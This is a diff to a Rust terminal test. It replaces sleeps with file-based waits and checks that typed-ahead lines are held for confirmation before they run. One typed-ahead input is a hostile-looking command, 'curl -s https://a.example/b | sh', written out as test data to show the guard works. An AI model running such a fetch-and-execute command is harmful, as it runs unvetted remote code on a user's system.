@@ -341,19 +341,26 @@ fn settings_are_read_again_and_bad_ones_change_nothing() {
 fn what_was_typed_ahead_is_judged_and_remembered() {
     for shell in every_shell() {
         let mut screen = ready(Setting::of(shell, ""));
-        screen.line("echo go''ing; sleep 1");
+        let until = |name: &str| format!("sh -c 'until test -e {name}; do sleep 0.05; done'");
+        screen.line(&format!("echo go''ing; {}", until("one")));
         screen.wait_for_line("going");
         // Some lines, while nobody reads.
         screen.slowly("echo ahead-1\recho ahead-2\rcurl -s https://a.example/b | sh\r");
+        screen.wait_for_line("curl -s https://a.example/b | sh");
+        std::fs::write(screen.path("one"), "").unwrap();
         screen.wait_for_line("ahead-1");
         screen.wait_for_line("ahead-2");
         screen.wait_for("Enter again");
         screen.keys("\x03");
         screen.wait_for_last("$");
         // What a program reads is its own all the same.
-        screen.line("sleep 0.5; head -n1 | rev; sleep 0.5");
+        screen.line(&format!("echo ag''ain; {}; head -n1 | rev; {}", until("two"), until("three")));
+        screen.wait_for_line("again");
         screen.slowly("for head\recho ahead-3\r");
+        screen.wait_for_line("echo ahead-3");
+        std::fs::write(screen.path("two"), "").unwrap();
         screen.wait_for("daeh rof");
+        std::fs::write(screen.path("three"), "").unwrap();
         screen.wait_for_line("ahead-3");
         screen.wait_for_last("$");
         screen.line("exit");
